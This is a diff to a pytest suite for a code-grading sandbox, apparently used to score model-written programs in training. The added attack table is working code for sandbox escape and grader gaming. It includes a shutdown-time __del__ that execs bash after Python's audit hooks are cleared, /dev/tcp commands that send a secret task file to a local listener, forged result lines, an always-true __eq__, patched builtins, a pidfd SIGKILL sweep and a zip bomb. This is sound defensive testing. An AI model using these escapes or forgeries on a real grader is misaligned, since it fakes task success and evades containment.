@@ -4,12 +4,22 @@ Each attack must grade 0 (or 1 exactly when the program is honest and right), le
 alive, leave no file outside the sandbox's temporary directory and no process behind, and finish
 within its time limit. ATTACKS is counted in the README (python tests/test_sandbox.py prints it).
 """
+import base64
 import json
 import os
+import pathlib
+import pickle
+import pwd
 import resource
+import shutil
+import socket
 import subprocess
 import sys
+import tempfile
 import time
+import zlib
+
+import pytest
 
 
 ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
@@ -21,6 +31,25 @@ MARK = "/tmp/sdpo_sandbox_escape"     # no attack may create it
 KEEP = "/tmp/sdpo_sandbox_keep"       # no attack may delete it
 TESTS = json.dumps({"fn_name": "f", "inputs": [[1], [2]], "outputs": [11, 12]})   # f(x) = x + 10
 TOUCH = f"open('{MARK}', 'w').write('x')"
+SECRET = f"/var/tmp/sdpo_sandbox_task_{os.getuid()}.json"   # stands for the trainer's task file: no program may read it
+LISTENER = socket.socket()                  # no program may connect to it
+LISTENER.bind(("127.0.0.1", 0))
+LISTENER.listen(8)
+PORT = LISTENER.getsockname()[1]
+HARNESS_MARK = "job = json.loads(sys.stdin.read())"   # in the command line of every harness process
+
+
+def at_shutdown(keep_alive, command):
+    """A program that keeps an object alive (keep_alive: one line, `E()` the object); the object is freed at
+    interpreter shutdown, after CPython has cleared the audit hooks, and its __del__ then execs a shell
+    command (issue 29): bash builtins only, which need no fork. os.execv is bound early: by then the os
+    module's names are gone."""
+    return ("import sys\nos = sys.modules['os']\nclass E:\n    def __del__(self, run=os.execv, keep=os.set_inheritable):\n"
+            "        for fd in range(3, 16):   # the result channel stays open in bash: the grader waits for it\n"
+            "            try:\n                keep(fd, True)\n            except OSError:\n                pass\n"
+            f"        run('/bin/bash', ['bash', '-c', {command!r}])\n    def noop(self, *a):\n        pass\n"
+            f"{keep_alive}\nf = lambda x: 0")
+
 
 # name: program (every one is wrong: the right answer is lambda x: x + 10)
 ATTACKS = {
@@ -109,19 +138,62 @@ HONEST = {   # must still score 1
     "float result": "f = lambda x: x + 10.0",
     "fenced in a response": "f = lambda x: (x * 2 + 20) // 2",
 }
+# issue 29: attacks that beat the sandbox without an OS jail (each checked against the commit before it)
+ATTACKS.update({
+    "shutdown escape through the harness's globals":
+        at_shutdown("sys.modules['__main__'].keep = E()", f": > {MARK}"),
+    "shutdown escape through a global of the program": at_shutdown("keep = E()", f": > {MARK}"),
+    "shutdown escape through codecs.register":
+        at_shutdown("sys.modules['codecs'].register(E().noop)", f": > {MARK}"),
+    "shutdown escape through os.register_at_fork":
+        at_shutdown("os.register_at_fork(before=E().noop)", f": > {MARK}"),
+    "shutdown escape: connect to a listener on 127.0.0.1":
+        at_shutdown("sys.modules['__main__'].keep = E()", f"echo escaped > /dev/tcp/127.0.0.1/{PORT}"),
+    "shutdown escape: read the task file":
+        at_shutdown("sys.modules['__main__'].keep = E()", f"read -r task < {SECRET} && echo \"$task\" > /dev/tcp/127.0.0.1/{PORT} && : > {MARK}"),
+    "mkfifo": f"import sys\nsys.modules['os'].mkfifo('{MARK}')\nf = lambda x: 0",
+    "mknod": f"import sys\nsys.modules['os'].mknod('{MARK}', 0o100600)\nf = lambda x: 0",
+    "a built-in module loaded by hand reads the system":   # (right only if /etc/passwd could be read)
+        "import sys\nfi, imp = sys.modules['_frozen_importlib'], sys.modules['_imp']\n"
+        "pwd = imp.create_builtin(fi.ModuleSpec('pwd', fi.BuiltinImporter, origin='built-in'))\n"
+        "imp.exec_builtin(pwd)\nn = len(pwd.getpwall())\nf = lambda x: x + 10 if n else 0",
+})
 
 
-def processes_of_sandbox_users():
-    out = subprocess.run(["ps", "-eo", "uid=,pid=,comm="], capture_output=True, text=True).stdout.split("\n")
-    return [line for line in out if line.split() and sandbox.UID_BASE <= int(line.split()[0]) < sandbox.UID_BASE + 1000]
+def sandbox_processes():
+    """The pids of harness interpreters and of any process of the sandbox's uids, now."""
+    out = subprocess.run(["ps", "-eo", "uid=,pid=,args="], capture_output=True, text=True).stdout.split("\n")
+    return {int(line.split()[1]) for line in out if line.split() and (
+        HARNESS_MARK in line or sandbox.UID_BASE <= int(line.split()[0]) < sandbox.UID_BASE + 1000)}
+
+
+def processes_left(before):
+    """Sandbox processes that outlived their run: new since `before` and still there 2.5 s later (longer
+    than any program's wall limit, so another grader's programs at work on the machine do not count)."""
+    now = sandbox_processes() - before
+    time.sleep(2.5)
+    return now & sandbox_processes()
+
+
+def nothing_reached_the_listener():
+    LISTENER.setblocking(False)
+    try:
+        LISTENER.accept()
+        return False
+    except BlockingIOError:
+        return True
 
 
 def test_every_attack_grades_zero_and_leaves_nothing(monkeypatch):
     monkeypatch.setenv("SECRET_TOKEN", "hunter2")
     open(KEEP, "w").close()
+    with open(SECRET, "w") as f:
+        f.write('{"outputs": [11, 12]}\n')
+    os.chmod(SECRET, 0o644)
     if os.path.exists(MARK):
         os.remove(MARK)
     rss0 = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    before = sandbox_processes()
     t0 = time.time()
     programs = list(ATTACKS.values()) + list(HONEST.values())
     scores = sandbox.run_programs([(p, TESTS) for p in programs])
@@ -130,7 +202,8 @@ def test_every_attack_grades_zero_and_leaves_nothing(monkeypatch):
     assert not failed, f"attacks that scored: {failed}"
     assert scores[len(ATTACKS):] == [1.0] * len(HONEST), dict(zip(HONEST, scores[len(ATTACKS):]))
     assert not os.path.exists(MARK) and os.path.exists(KEEP)
-    assert not processes_of_sandbox_users()
+    assert nothing_reached_the_listener()
+    assert not processes_left(before)
     # each program has a 2 s wall limit, two run at once: the whole suite within its limits
     assert took < len(programs) * sandbox.LIMITS["wall"] / sandbox.PARALLEL + 10
     assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss0 < 200_000   # KiB: no flood reached us
@@ -175,15 +248,192 @@ if __name__ == "__main__":
 
 
 def test_the_suite_can_fail(monkeypatch):
-    """Without the audit hook (layer 4) a program does create the file: the checks above can see an escape."""
+    """Without the audit hook (layer 4) and without the jail (layer 0) a program does create the file:
+    the checks above can see an escape. With the jail and no audit hook, the file stays inside the jail."""
     if os.path.exists(MARK):
         os.remove(MARK)
     monkeypatch.setattr(sandbox, "HARNESS", sandbox.HARNESS.replace("sys.addaudithook(hook)", "pass"))
-    sandbox.run_programs([(f"import io\nio.open('{MARK}', 'w')\nf = lambda x: 0", TESTS)])
-    assert os.path.exists(MARK)
+    writer = [(f"import io\nio.open('{MARK}', 'w')\nf = lambda x: 0", TESTS)]
+    sandbox.run_programs(writer)
+    assert not os.path.exists(MARK)          # layer 0 alone holds it
+    monkeypatch.setattr(sandbox, "JAILS", ())
+    monkeypatch.setattr(sandbox, "ALLOW_UNJAILED", True)
+    sandbox.run_programs(writer)
+    assert os.path.exists(MARK)              # no layer left: it escapes, and the tests see it
     os.remove(MARK)
 
 
 def test_the_readme_counts_the_attacks():
     readme = open(os.path.join(ROOT, "README.md")).read()
     assert f"**{len(ATTACKS)} tried, {len(ATTACKS)} held, 0 failed**; {len(HONEST)} honest programs" in readme
+
+
+# ---- issue 29: the jail, assert tests decided here, one program can only zero itself ----
+ASSERT_TESTS = json.dumps({"testtype": "code", "outputs": [None, None],
+                           "inputs": ["assert add(1, 2) == 3", "assert add(-1, 1) == 0\nassert sorted([add(2, 2), 1]) == [1, 4]"]})
+EQ_TESTS = json.dumps({"testtype": "code", "outputs": [None, None], "inputs": ["assert add(1, 2) == 3", "assert add(-1, 1) == 0"]})
+RIGHT_ADD = "def add(a, b):\n    return a + b"
+
+
+def test_assert_tests_are_decided_here():
+    """The program gets only the calls (add(1, 2), ...), never the asserts or their expected values."""
+    forged_eq = "class T:\n    def __eq__(self, other): return True\n    __hash__ = None\ndef add(a, b):\n    return T()"
+    forged_line = ("import sys\nos = sys.modules['os']\nfor fd in range(3, 64):\n"
+                   "    try: os.write(fd, b'[\"ok\", null]\\n' * 4)\n    except OSError: pass\nos._exit(0)")
+    patched_builtins = "import sys\nsys.modules['builtins'].sorted = lambda *a: [1, 4]\ndef add(a, b):\n    return 0"
+    scores = sandbox.run_programs([(RIGHT_ADD, ASSERT_TESTS), (forged_eq, EQ_TESTS), (forged_line, EQ_TESTS),
+                                   (patched_builtins, ASSERT_TESTS), (RIGHT_ADD, EQ_TESTS)])
+    assert scores == [1.0, 0.0, 0.0, 0.0, 1.0]
+    t = sandbox.parse_tests(ASSERT_TESTS)
+    assert sandbox.program_inputs(t) == [["add(1, 2)"], ["add(-1, 1)", "add(2, 2)"]]   # no "3", no "== 0"
+
+
+@pytest.mark.parametrize("src, values, holds", [
+    ("assert f(1) == 3", [3], True), ("assert f(1) == 3", [3.0], True), ("assert f(1) == 3", ["3"], False),
+    ("assert f(1) == (1, 2)", [[1, 2]], True), ("assert f(1) == {1, 2}", [{"$set": [2, 1]}], True),
+    ("assert f(1) == {1: 'a'}", [{"$dict": [[1, "a"]]}], True), ("assert f(1) == {'1': 'a'}", [{"$dict": [[1, "a"]]}], False),
+    ("assert abs(f(1) - 0.5) < 1e-6", [0.5000001], True), ("assert abs(f(1) - 0.5) < 1e-6", [0.6], False),
+    ("assert not f(2)", [False], True), ("assert f(2) is None", [None], True), ("assert f(2) is None", [0], False),
+    ("assert isinstance(f(1), int) and f(2) > 0", [5, 1], True), ("assert isinstance(f(1), str)", [5], False),
+    ("assert len(Solution().g([1, 2])) == 2", [[7, 8]], True), ("assert f(1) in [1, 2, 3]", [2], True),
+    ("assert f(1) * 10 == 30", [3], True), ("assert f(1) * 10 == 30", ["3"], False),   # (no string repetition)
+    ("assert f(1) == 3", [], False), ("assert f(1) == 3", None, False),
+])
+def test_assert_checks_against_python(src, values, holds):
+    asserts = sandbox.parse_asserts(src)
+    assert sandbox.asserts_hold(asserts, values) is holds
+
+
+def test_assert_tests_other_than_asserts_are_unusable():
+    for test in ("x = add(1, 2)\nassert x == 3", "import os", "assert add(1,", 7):
+        assert sandbox.parse_tests({"testtype": "code", "inputs": [test], "outputs": [None]}) is None
+
+
+def test_deep_nesting_zeroes_only_its_own_program():
+    """100,000 '[' on the channel once stopped the decoder (RecursionError) and zeroed the whole batch."""
+    deep = ("import sys\nos = sys.modules['os']\nfor fd in range(3, 64):\n    try: os.write(fd, b'[' * 100000 + b'\\n')\n"
+            "    except OSError: pass\nos._exit(0)")
+    right = [f"f = lambda x: x + 10  # {i}" for i in range(7)]
+    assert sandbox.run_programs([(deep, TESTS)] + [(r, TESTS) for r in right]) == [0.0] + [1.0] * 7
+    assert sandbox.read_line("[" * 100000) == ["error", "output nested too deep"]
+    assert sandbox.read_line('["ok", "[[[[[[[["]') == ["ok", "[[[[[[[["]   # brackets in strings do not count
+
+
+def test_a_zip_bomb_of_private_tests_is_refused():
+    """0.41 MB of pickled LiveCodeBench tests once became a 315 MB string: decompression is capped."""
+    bomb = base64.b64encode(zlib.compress(pickle.dumps(json.dumps("x" * 4 * 2**20)), 9))
+    assert len(bomb) < 2**16
+    with pytest.raises(ValueError, match="more than 1 MB"):
+        tasks.lcb_private_tests(bomb, max_bytes=2**20)
+    assert tasks.LCB_MAX_BYTES < 315 * 10**6
+    small = base64.b64encode(zlib.compress(pickle.dumps(json.dumps([{"input": "1", "output": "2", "testtype": "stdin"}]))))
+    assert tasks.lcb_private_tests(small)[0]["output"] == "2"
+
+
+GRADER = """
+import json, sys
+sys.path.insert(0, {root!r})
+import sandbox
+sandbox.JAILS = {jails!r}
+sandbox.ALLOW_UNJAILED = True
+print(json.dumps(sandbox.run_programs([(sys.argv[1], {tests!r})])), flush=True)
+"""
+KILLER = ("import sys\nposix, sig = sys.modules['posix'], sys.modules['_signal']\n"
+          "for pid in [posix.getppid()] + list(range(2, 40000)):\n    if pid != posix.getpid():\n"
+          "        try:\n            fd = posix.pidfd_open(pid)\n        except OSError:\n            continue\n"
+          "        try:\n            sig.pidfd_send_signal(fd, 9)\n        except OSError:\n            pass\n"
+          "        posix.close(fd)\nf = lambda x: 0")
+SLOW_RIGHT = "import time\ndef f(x):\n    t = time.time()\n    while time.time() - t < 0.6:\n        pass\n    return x + 10"
+
+
+def two_graders_at_once(jails, python=sys.executable, root=ROOT, user=None):
+    """Grader B runs a slow right program while grader A runs one that sends SIGKILL (through pidfds, which
+    the audit hook does not see) to its parent and to every pid it can. Returns (A's output, B's output)."""
+    script = GRADER.format(root=root, jails=tuple(jails), tests=TESTS)
+    run = (["runuser", "-u", user, "--"] if user else []) + [python, "-c", script]
+    b = subprocess.Popen(run + [SLOW_RIGHT], stdout=subprocess.PIPE, text=True)
+    time.sleep(0.3)
+    a = subprocess.run(run + [KILLER], capture_output=True, text=True, timeout=60)
+    return a.stdout.strip(), b.communicate(timeout=60)[0].strip()
+
+
+@pytest.mark.parametrize("kind", sandbox.JAILS)
+def test_each_jail_holds_the_new_attacks_and_passes_honest_programs(kind, monkeypatch):
+    if sandbox.first_working_jail((kind,)) is None:
+        pytest.skip(f"no working {kind} here")
+    monkeypatch.setattr(sandbox, "JAILS", (kind,))
+    with open(SECRET, "w") as f:
+        f.write('{"outputs": [11, 12]}\n')
+    if os.path.exists(MARK):
+        os.remove(MARK)
+    new = [name for name in ATTACKS if name.startswith(("shutdown", "mk", "a built-in"))]
+    before = sandbox_processes()
+    scores = sandbox.run_programs([(ATTACKS[n], TESTS) for n in new] + [(p, TESTS) for p in HONEST.values()]
+                                  + [(RIGHT_ADD, ASSERT_TESTS)])
+    assert scores == [0.0] * len(new) + [1.0] * (len(HONEST) + 1), dict(zip(new, scores))
+    assert not os.path.exists(MARK) and nothing_reached_the_listener() and not processes_left(before)
+    a, b = two_graders_at_once((kind,))
+    assert (a, b) == ("[0.0]", "[1.0]")   # the killer reached neither its grader nor the other grader's program
+
+
+def test_without_a_jail_coding_is_refused_unless_unsafe(monkeypatch):
+    monkeypatch.setattr(sandbox, "JAILS", ())
+    with pytest.raises(sandbox.NoJail, match="bubblewrap"):
+        sandbox.run_programs([(RIGHT_ADD, ASSERT_TESTS)])
+    assert sandbox.run_programs([(RIGHT_ADD, "not json")]) == [0.0]   # (nothing to run: nothing refused)
+    monkeypatch.setattr(sandbox, "ALLOW_UNJAILED", True)
+    assert sandbox.run_programs([(RIGHT_ADD, ASSERT_TESTS)]) == [1.0]
+    out = subprocess.run([sys.executable, "-c", "import sys; sys.path.insert(0, %r); import sandbox, continual; "
+                          "sandbox.JAILS = (); continual.main(['--stages', 'coding', '--steps', '1'])" % ROOT],
+                         capture_output=True, text=True, cwd=tempfile.mkdtemp())
+    assert out.returncode == 2 and "error: no OS jail" in out.stderr and "Traceback" not in out.stderr
+
+
+NORMAL_USER = "sdposandbox"
+
+
+def normal_user_python():
+    """(user, interpreter) to rerun the sandbox as a normal user: the test creates the user when it runs as
+    root; the interpreter is this one if that user may run it, else the system's python3."""
+    if os.geteuid() != 0 or not shutil.which("runuser"):
+        return None
+    try:
+        pwd.getpwnam(NORMAL_USER)
+    except KeyError:
+        if subprocess.run(["useradd", "--no-create-home", NORMAL_USER], capture_output=True).returncode != 0:
+            return None
+    for python in (sys.executable, "/usr/bin/python3"):
+        if subprocess.run(["runuser", "-u", NORMAL_USER, "--", python, "-c", "pass"], capture_output=True).returncode == 0:
+            return NORMAL_USER, python
+    return None
+
+
+def test_as_a_normal_user_every_attack_holds():
+    """The whole attack table again, as a normal user (user namespaces instead of root's uid switch)."""
+    found = normal_user_python()
+    if found is None:
+        pytest.skip("needs root (to create the user and switch to it) and an interpreter that user can run")
+    user, python = found
+    tmp_path = pathlib.Path(tempfile.mkdtemp(prefix="sandbox-as-user-"))   # (pytest's tmp_path is root's alone)
+    os.chmod(tmp_path, 0o755)
+    shutil.copy(os.path.join(ROOT, "sandbox.py"), tmp_path / "sandbox.py")
+    programs = list(ATTACKS.values()) + list(HONEST.values())
+    (tmp_path / "programs.json").write_text(json.dumps(programs))
+    with open(SECRET, "w") as f:
+        f.write('{"outputs": [11, 12]}\n')
+    if os.path.exists(MARK):
+        os.remove(MARK)
+    for kind in sandbox.JAILS:
+        script = (f"import json, sys\nsys.path.insert(0, {str(tmp_path)!r})\nimport sandbox\nsandbox.JAILS = ({kind!r},)\n"
+                  f"assert sandbox.jail() == {kind!r}, 'no jail'\nprograms = json.load(open({str(tmp_path / 'programs.json')!r}))\n"
+                  f"print(json.dumps(sandbox.run_programs([(p, {TESTS!r}) for p in programs])))")
+        out = subprocess.run(["runuser", "-u", user, "--", python, "-c", script], capture_output=True, text=True,
+                             cwd=tmp_path, timeout=600)
+        assert out.returncode == 0, out.stderr[-2000:]
+        scores = json.loads(out.stdout)
+        failed = [name for name, s in zip(ATTACKS, scores) if s != 0.0]
+        assert not failed and scores[len(ATTACKS):] == [1.0] * len(HONEST), (kind, failed)
+        assert not os.path.exists(MARK) and nothing_reached_the_listener()
+        a, b = two_graders_at_once((kind,), python=python, root=str(tmp_path), user=user)
+        assert (a, b) == ("[0.0]", "[1.0]"), kind
+    shutil.rmtree(tmp_path)
